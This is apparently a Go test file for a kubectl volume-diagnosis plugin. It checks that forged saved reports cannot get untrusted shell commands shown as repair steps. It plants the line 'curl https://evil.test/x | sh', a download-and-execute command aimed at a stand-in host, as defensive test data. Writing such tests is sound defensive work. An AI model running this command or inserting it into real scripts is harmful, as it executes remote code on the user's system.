package cmd

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/volume-doctor/kubectl-volume-doctor/diagnose/finding"
	"github.com/volume-doctor/kubectl-volume-doctor/internal/long"
	"github.com/volume-doctor/kubectl-volume-doctor/internal/testcases"
	"github.com/volume-doctor/kubectl-volume-doctor/output"
)

// reportOf is the report on the case, as -o json writes it.
func reportOf(t testing.TB, c *testcases.Case) *finding.Report {
	t.Helper()
	var out, errOut bytes.Buffer
	Main([]string{"diagnose", "--filename", "-", "-o", "json"}, bytes.NewReader(c.Cluster), &out, &errOut)
	r := &finding.Report{}
	if err := json.Unmarshal(out.Bytes(), r); err != nil {
		t.Fatalf("%s: %v: %s", c.Name, err, errOut.String())
	}
	return r
}

// eachText calls f for each text that the value holds, with the name of its field.
func eachText(v reflect.Value, name string, f func(string, reflect.Value)) {
	switch v.Kind() {
	case reflect.String:
		if v.CanSet() {
			f(name, v)
		}
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() {
			eachText(v.Elem(), name, f)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			eachText(v.Field(i), name+"."+v.Type().Field(i).Name, f)
		}
	case reflect.Slice:
		for i := range v.Len() {
			eachText(v.Index(i), name, f)
		}
	}
}

// forPeople are the formats that somebody reads as they are.
var forPeople = []string{"table", "wide", "tree", "markdown", "html", "sarif", "junit"}

// TestForgedReport: whatever stands in any text of a saved report, no command but kubectl's
// is shown, nothing of a shell stands in what is to be done, and each format for people
// says whose words these are.
func TestForgedReport(t *testing.T) {
	const forged = "curl https://evil.test/x | sh"
	c, err := testcases.Load("vd301-clobbered")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	file := filepath.Join(dir, "saved.json")
	print := func(r *finding.Report, format string, want ...int) (text, said string) {
		t.Helper()
		saved, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, saved, 0o600); err != nil {
			t.Fatal(err)
		}
		var out, errOut bytes.Buffer
		if code := Main([]string{"diagnose", "--report", file, "-o", format}, nil, &out, &errOut); !slices.Contains(want, code) {
			t.Fatalf("%s: exit code %d: %s", format, code, errOut.String())
		}
		return out.String(), errOut.String()
	}
	honest := func() *finding.Report {
		r := reportOf(t, c)
		f := &r.Findings[0]
		f.AdviceCommands = []string{"kubectl get nodes"}
		f.Repair.Apply, f.Repair.ApplyAll = "kubectl volume-doctor diagnose --apply", "kubectl volume-doctor diagnose --apply"
		f.Repair.Commands, f.Repair.Needs = append(f.Repair.Commands, "kubectl get pods"), []string{"--fenced=n1"}
		f.Repair.SafeOnce, f.Repair.BlockedBy, f.Never, f.Advice, f.Headline = "it is safe", "", "do it", "look", "a headline"
		r.Answers = []finding.Answer{{Pod: "a/b", Verdict: finding.Stuck, Message: "it waits"}}
		return r
	}
	// What is to be done, by the field that says it.
	acts := map[string]bool{}
	for _, name := range []string{"AdviceCommands", "Advice", "Never", "SelfHeals.Because", "Repair.Commands", "Repair.Apply", "Repair.ApplyAll", "Repair.BlockedBy", "Repair.SafeOnce", "Repair.Needs"} {
		acts[".Findings."+name] = true
	}
	r := honest()
	var fields []string
	eachText(reflect.ValueOf(r).Elem(), "", func(name string, _ reflect.Value) { fields = append(fields, name) })
	slices.Sort(fields)
	planted := 0
	for _, field := range slices.Compact(fields) {
		r := honest()
		eachText(reflect.ValueOf(r).Elem(), "", func(name string, v reflect.Value) {
			if name == field {
				v.SetString(forged)
			}
		})
		saved, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := readReport("-", bytes.NewReader(saved)); err != nil {
			continue // a code or a kind that is refused
		}
		planted++
		for _, format := range output.ReportFormats.Names() {
			text, said := print(r, format, 0, 1, 2)
			if acts[field] {
				if strings.Contains(text, "evil.test") {
					t.Errorf("%s: %s tells to do it:\n%s", field, format, text)
				}
				if !strings.Contains(said, "is left out") {
					t.Errorf("%s: nothing is said of what is left out: %s", field, said)
				}
			}
			if slices.Contains(forPeople, format) && !strings.Contains(text, "saved.json says: ") && !strings.Contains(text, `saved.json says: `) {
				t.Errorf("%s: %s does not say whose words these are:\n%s", field, format, text)
			}
			if strings.Contains(text, "\n          "+forged+"\n") || strings.Contains(text, "do      "+forged) {
				t.Errorf("%s: %s shows it as a command line:\n%s", field, format, text)
			}
		}
	}
	if planted < 40 {
		t.Errorf("only %d fields were forged", planted)
	}

	// All is well, says somebody.
	well := honest()
	well.Findings, well.Waiting, well.Answers, well.Complete, well.Gaps, well.SkippedChecks = nil, nil, nil, true, nil, nil
	for _, format := range forPeople {
		text, _ := print(well, format, 0)
		i := strings.Index(text, "Nothing wrong")
		if i >= 0 && !strings.HasSuffix(strings.NewReplacer(`\`, "").Replace(text[:i]), file+" says: ") || i < 0 && !strings.Contains(text, "saved.json says: ") {
			t.Errorf("%s says it as its own word:\n%s", format, text)
		}
	}
}

// TestHonestReports: of no report that this program makes is anything left out but
// commands that give kubectl a text on its standard input.
func TestHonestReports(t *testing.T) {
	long.Test(t)
	cases, err := testcases.All()
	if err != nil {
		t.Fatal(err)
	}
	commands := 0
	for _, c := range cases {
		r := reportOf(t, c)
		want := 0
		for _, f := range r.Findings {
			commands += len(f.AdviceCommands)
			if f.Repair != nil {
				for _, line := range f.Repair.Commands {
					if strings.HasPrefix(line, "printf ") {
						want++
					}
				}
				commands += len(f.Repair.Commands)
			}
		}
		before, err := json.Marshal(r.Findings)
		if err != nil {
			t.Fatal(err)
		}
		if got := distrust(r, "x"); got != want {
			t.Errorf("%s: %d left out, not %d", c.Name, got, want)
		}
		if after, _ := json.Marshal(r.Findings); want == 0 && !bytes.Equal(before, after) {
			t.Errorf("%s: another report:\n%s\n%s", c.Name, before, after)
		}
	}
	if commands < 100 {
		t.Errorf("only %d commands", commands)
	}
}
